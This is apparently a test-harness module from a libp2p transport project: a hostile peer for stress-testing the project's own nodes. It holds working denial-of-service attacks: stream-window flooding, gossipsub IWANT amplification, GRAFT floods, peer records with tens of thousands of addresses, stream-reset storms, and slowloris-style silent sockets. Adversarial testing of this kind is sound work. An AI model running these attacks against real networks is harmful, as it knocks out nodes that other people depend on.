"""A hostile peer that keeps to the wire format alone: windows, gossip's control, sockets.

It is run as a program of its own, so that what it holds is not counted as a node's::

    python -P -m trials.links PLAN.json

The plan says which attack. What was sent and what came is printed as one JSON object.
"""

from __future__ import annotations

import contextlib
import json
import resource
import secrets
import socket
import struct
import sys
import time
from collections import Counter
from pathlib import Path
from typing import Any, Final

import attrs
import trio
from multiaddr import Multiaddr
from qres_transport_libp2p.curves import without_fastecdsa

with without_fastecdsa():
    from libp2p.identity.identify.pb.identify_pb2 import Identify
    from libp2p.peer.envelope import Envelope, make_unsigned
    from libp2p.peer.pb import peer_record_pb2
    from libp2p.peer.peer_record import PEER_RECORD_ENVELOPE_PAYLOAD_TYPE
    from libp2p.peer.peerinfo import PeerInfo
    from libp2p.pubsub.pb import rpc_pb2
    from libp2p.utils.varint import decode_varint_with_size, encode_varint_prefixed

from qres_transport_libp2p import blobs, frames, hello
from qres_transport_libp2p.gossip import topic_of
from qres_transport_libp2p.places import split
from qres_transport_libp2p.services import GOSSIPSUB

from .raw import MULTISTREAM, plain_host

PIECE: Final = 60_000
COPIES: Final = 2600
"""How often one IWANT names a message: as often as there is room for in an RPC."""
LARGE: Final = 500
"""Bytes of a message that is worth asking for; one of many thousands would be announced."""
GRAFTS: Final = 500
ADDRESSES: Final = 20_000
"""In a record: so many keep a node busy that compares each with each."""
RPC_ADDRESSES: Final = 8_000
"""In a record that fits into an RPC."""
PAUSE: Final = 0.2
"""Seconds before a node that hung up is connected to again."""


@attrs.frozen
class LinksPlan:
    """What to do.

    Attributes:
        mode: ``window``, ``window_nohello``, ``iwant_amp``, ``graftx``, ``record``, ``hellos``,
            ``resets``, ``trickle`` or ``silent``.
        swarm: name of the swarm.
        key: the private key file of a node of the roster; not read by ``silent``.
        targets: multiaddrs of the nodes.
        seconds: how long.
        sockets: how many ``silent`` holds.
        source: the address they come from.
    """

    mode: str
    swarm: str
    key: str
    targets: tuple[str, ...]
    seconds: float
    sockets: int = 2000
    source: str = "127.0.0.2"


def _head(kind: int, flags: int, stream_id: int, length: int) -> bytes:
    return struct.pack("!BBHII", 0, kind, flags, stream_id, length)


class LinkAttacker:
    """The hostile peer at one node.

    Args:
        plan: what to do.
        host: of plain libp2p.
        target: the node.
        did: what was sent and what came, bytes and counts.
    """

    def __init__(self, plan: LinksPlan, host: Any, target: str, did: Counter[str]) -> None:
        self._plan = plan
        self._host = host
        self._peer, self._where = split(target)
        self._did = did
        self._names: list[bytes] = []

    async def run(self) -> None:
        """Connect, attack until the node hangs up, and come again."""
        work = {
            "window": self._window,
            "window_nohello": self._window,
            "iwant_amp": self._gossip,
            "graftx": self._gossip,
            "record": self._record,
            "hellos": self._hellos,
            "resets": self._resets,
        }[self._plan.mode]
        if self._plan.mode == "record":
            self._serve_record()
        network = self._host.get_network()
        while True:
            try:
                network.unblock_peer(self._peer)
                await network.close_peer(self._peer)
                with trio.fail_after(10):
                    await self._host.connect(PeerInfo(self._peer, [self._where]))
                    self._did["connected"] += 1
                    if self._plan.mode != "window_nohello":
                        await self._greet()
                await work()
            except Exception as error:  # noqa: BLE001 - the node has hung up, one way or another
                self._did[type(error).__name__] += 1
            await trio.sleep(PAUSE)

    async def _greet(self) -> None:
        stream = await self._host.new_stream(self._peer, [hello.PROTOCOL])
        said = hello.Hello(self._plan.swarm, secrets.token_bytes(16), b"").dumps()
        await stream.write(len(said).to_bytes(4, "big") + said)
        answer = await stream.read(1)
        self._did["admitted" if answer == hello.WELCOME else "turned away"] += 1
        with contextlib.suppress(Exception):
            await stream.read(9000)

    async def _window(self) -> None:
        """Data without end on a stream that the node does not read, or reads slowly."""
        (conn,) = self._host.get_network().get_connections(self._peer)
        secured = conn.muxed_conn.secured_conn
        early = self._plan.mode == "window_nohello"
        name = (blobs.PROTOCOL if early else frames.PROTOCOL).encode()
        said = MULTISTREAM + bytes([len(name) + 1]) + name + b"\n"
        await secured.write(_head(1, 1, 1001, 0) + _head(0, 0, 1001, len(said)) + said)
        # Frames of a byte each: a node takes them, and takes no more of them than it allows.
        data = bytes(PIECE) if early else b"\0\0\0\1x" * (PIECE // 5)
        while True:
            await secured.write(_head(0, 0, 1001, len(data)) + data)
            self._did["bytes out"] += len(data)

    def _signed(self, count: int) -> bytes:
        """A record of so many addresses of this peer."""
        key, kind = self._host.get_private_key(), PEER_RECORD_ENVELOPE_PAYLOAD_TYPE
        made = peer_record_pb2.PeerRecord(
            peer_id=self._host.get_id().to_bytes(), seq=time.time_ns()
        )
        for number in range(count):
            made.addresses.add().multiaddr = b"\x04" + (0x0B000000 + number).to_bytes(4, "big")
        raw = made.SerializeToString()
        signed = key.sign(make_unsigned("libp2p-peer-record", kind, raw))
        record: bytes = Envelope(key.get_public_key(), kind, raw, signed).marshal_envelope()
        return record

    def _serve_record(self) -> None:
        """Answer who asks for this peer's addresses with very many."""
        told = Identify(protocols=["/ipfs/id/1.0.0"], signedPeerRecord=self._signed(ADDRESSES))
        said = encode_varint_prefixed(told.SerializeToString())

        async def answer(stream: Any) -> None:
            self._did["records asked"] += 1
            with contextlib.suppress(Exception):
                await stream.write(said)
                await stream.close()

        self._host.set_stream_handler("/ipfs/id/1.0.0", answer)

    async def _record(self) -> None:
        """The record in gossip, again and again."""
        rpc = rpc_pb2.RPC(senderRecord=self._signed(RPC_ADDRESSES))
        data = encode_varint_prefixed(rpc.SerializeToString())
        stream = await self._host.new_stream(self._peer, [GOSSIPSUB])
        while True:
            await stream.write(data)
            self._did["records sent"] += 1
            await trio.sleep(0.2)

    async def _hellos(self) -> None:
        """The same hello again and again."""
        while True:
            await self._greet()
            self._did["hellos"] += 1

    async def _resets(self) -> None:
        """Streams that are opened and reset at once."""
        (conn,) = self._host.get_network().get_connections(self._peer)
        secured, number = conn.muxed_conn.secured_conn, 1001
        while True:
            names = range(number, number + 200, 2)
            await secured.write(b"".join(_head(1, 1, k, 0) + _head(1, 8, k, 0) for k in names))
            number += 200
            self._did["streams"] += 100

    async def _gossip(self) -> None:
        self._host.set_stream_handler(GOSSIPSUB, self._listen)
        stream = await self._host.new_stream(self._peer, [GOSSIPSUB])
        topic = topic_of(self._plan.swarm)
        first = rpc_pb2.RPC(subscriptions=[rpc_pb2.RPC.SubOpts(subscribe=True, topicid=topic)])
        first.control.graft.add(topicID=topic)
        await stream.write(encode_varint_prefixed(first.SerializeToString()))
        while True:
            rpc = rpc_pb2.RPC()
            if self._plan.mode == "graftx":
                for _ in range(GRAFTS):
                    rpc.control.graft.add(topicID=secrets.token_hex(4))
            elif self._names:
                rpc.control.iwant.add(messageIDs=self._names[-1:] * COPIES)
                self._did["asked"] += 1
            data = encode_varint_prefixed(rpc.SerializeToString())
            await stream.write(data)
            self._did["bytes out"] += len(data)
            await trio.sleep(0.1 if self._plan.mode == "iwant_amp" else 0)

    async def _listen(self, stream: Any) -> None:
        """Note what comes, and the names of large messages in it."""
        held = bytearray()
        with contextlib.suppress(Exception):
            while data := await stream.read(2**18):
                self._did["bytes in"] += len(data)
                held += data
                while held:
                    size, start = decode_varint_with_size(bytes(held[:10]))
                    if len(held) < start + size:
                        break
                    said = rpc_pb2.RPC.FromString(bytes(held[start : start + size]))
                    del held[: start + size]
                    self._names += [
                        item.from_id + item.seqno for item in said.publish if len(item.data) > LARGE
                    ]
                    del self._names[:-10]


def silent(plan: LinksPlan, did: Counter[str]) -> None:
    """Hold sockets that say nothing, and put another in the place of each that is closed."""
    places = [Multiaddr(target) for target in plan.targets]
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 2 * plan.sockets + 200), most))
    held: list[socket.socket] = []
    ends = time.monotonic() + plan.seconds
    while time.monotonic() < ends:
        alive: list[socket.socket] = []
        for item in held:
            try:
                open_still = bool(item.recv(2**16))
            except BlockingIOError:
                open_still = True
            except OSError:
                open_still = False
            if open_still:
                alive.append(item)
                if plan.mode == "trickle":
                    at = did["told"] % len(MULTISTREAM)
                    with contextlib.suppress(OSError):
                        item.send(MULTISTREAM[at : at + 1])
            else:
                item.close()
                did["closed"] += 1
        held = alive
        did["told"] += 1
        for _ in range(min(200, plan.sockets - len(held))):
            place = places[did["opened"] % len(places)]
            item = socket.socket()
            item.settimeout(0)
            item.bind((plan.source, 0))
            address = str(place.value_for_protocol("ip4"))
            item.connect_ex((address, int(str(place.value_for_protocol("tcp")))))
            held.append(item)
            did["opened"] += 1
        did["held"] = max(did["held"], len(held))
        time.sleep(0.4 if plan.mode == "trickle" else 0.05)


async def main(plan: LinksPlan, pem: bytes, did: Counter[str]) -> None:
    """Carry the plan out with a key."""
    with trio.move_on_after(plan.seconds):
        async with plain_host(pem) as host, trio.open_nursery() as nursery:
            for target in plan.targets:
                nursery.start_soon(LinkAttacker(plan, host, target, did).run)


if __name__ == "__main__":
    read: dict[str, Any] = json.loads(Path(sys.argv[1]).read_text("utf-8"))
    known = LinksPlan(**{**read, "targets": tuple(read["targets"])})
    done: Counter[str] = Counter()
    if known.mode in {"silent", "trickle"}:
        silent(known, done)
    else:
        trio.run(main, known, Path(known.key).read_bytes(), done)
    print(json.dumps(done), flush=True)
